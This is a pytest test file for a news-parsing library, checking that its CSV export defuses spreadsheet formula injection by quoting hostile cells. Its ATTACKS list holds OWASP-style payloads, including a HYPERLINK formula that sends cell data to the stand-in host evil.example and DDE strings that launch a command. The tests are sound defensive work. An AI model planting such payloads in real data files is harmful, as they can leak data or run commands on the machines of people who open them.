"""CSV tables are safe to open in a spreadsheet: no cell runs as a formula (issue 15, §7)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import newsparse
from newsparse import Article, Comment, Quote
from newsparse._export import FORMULA_STARTS, TEXT_MARK, CsvWriter, _neutral

from .strategies import articles

#: Cells a page could carry that a spreadsheet would run (OWASP's examples, and ours).
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_article() -> Article:
    return Article(
        title=ATTACKS[0],
        subtitle="'quoted already",
        authors=(ATTACKS[3], "Ann Lind"),
        url="https://example.org/x",
        section="-3",
        paragraphs=(ATTACKS[1], "“=1+2,” said Ann Lind."),
        quotes=(Quote(text="=1+2,", speaker=ATTACKS[3], cue="said", paragraph=1, start=1, end=6),),
        comment_count=2,
        comments=(
            Comment(author=ATTACKS[3], text=ATTACKS[2]),
            Comment(text=ATTACKS[4], reply_to=0),
        ),
    )


def _table(
    article: Article, table: str, key: str = "=key", **options: bool
) -> list[dict[str, str]]:
    buf = io.StringIO()
    newsparse.to_csv([(key, article)], buf, table=table, **options)
    return list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))


def _cells(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values()]


@pytest.mark.parametrize("table", list(newsparse.TABLES))
def test_no_cell_starts_a_formula_by_default(table: str) -> None:
    rows = _table(_hostile_article(), table)
    assert rows
    assert not [cell for cell in _cells(rows) if cell.startswith(FORMULA_STARTS)]


def test_text_cells_get_a_quote_in_front() -> None:
    (article,) = _table(_hostile_article(), "articles")
    assert article["title"] == "'" + ATTACKS[0]
    assert article["authors"] == "'" + ATTACKS[3] + "; Ann Lind"
    assert article["article_id"] == "'=key"
    assert article["section"] == "'-3", "a text cell that reads like a number is still text"
    assert article["subtitle"] == "''quoted already", "a leading quote is doubled, to undo one"
    assert article["body"].startswith("'+cmd")
    comments = _table(_hostile_article(), "comments")
    assert [c["author"] for c in comments] == ["'" + ATTACKS[3], ""]
    assert [c["text"] for c in comments] == ["'" + ATTACKS[2], "'" + ATTACKS[4]]


def test_numbers_are_never_marked() -> None:
    assert [_neutral(n) for n in (-3, 0, 12, None)] == [-3, 0, 12, None]
    assert _neutral("-3") == "'-3"
    buf = io.StringIO()
    CsvWriter(buf, "quotes").write(_hostile_article(), "k")
    (quote,) = csv.DictReader(io.StringIO(buf.getvalue(), newline=""))
    assert (quote["paragraph"], quote["start"], quote["end"]) == ("1", "1", "6")
    assert quote["text"] == "'=1+2,"


def test_raw_writes_cells_verbatim(tmp_path: Path) -> None:
    rows = _table(_hostile_article(), "comments", raw=True)
    assert [c["text"] for c in rows] == [ATTACKS[2], ATTACKS[4]]
    out = tmp_path / "a.csv"
    newsparse.to_csv([("=key", _hostile_article())], out, raw=True)
    with out.open(encoding="utf-8", newline="") as fh:
        (row,) = csv.DictReader(fh)
    assert row["title"] == ATTACKS[0] and row["article_id"] == "=key"


@given(articles(), st.sampled_from([*FORMULA_STARTS, TEXT_MARK, "", "a"]))
def test_removing_one_leading_quote_gives_the_text_back(article: Article, lead: str) -> None:
    title = lead + article.title
    article = Article(title=title, comments=[Comment(author=lead + "x", text=lead + "y")])
    for table, field, expected in (
        ("articles", "title", title),
        ("comments", "author", lead + "x"),
        ("comments", "text", lead + "y"),
    ):
        safe = _table(article, table, key="k")[0][field]
        assert not safe.startswith(FORMULA_STARTS)
        assert (safe[1:] if safe.startswith(TEXT_MARK) else safe) == expected
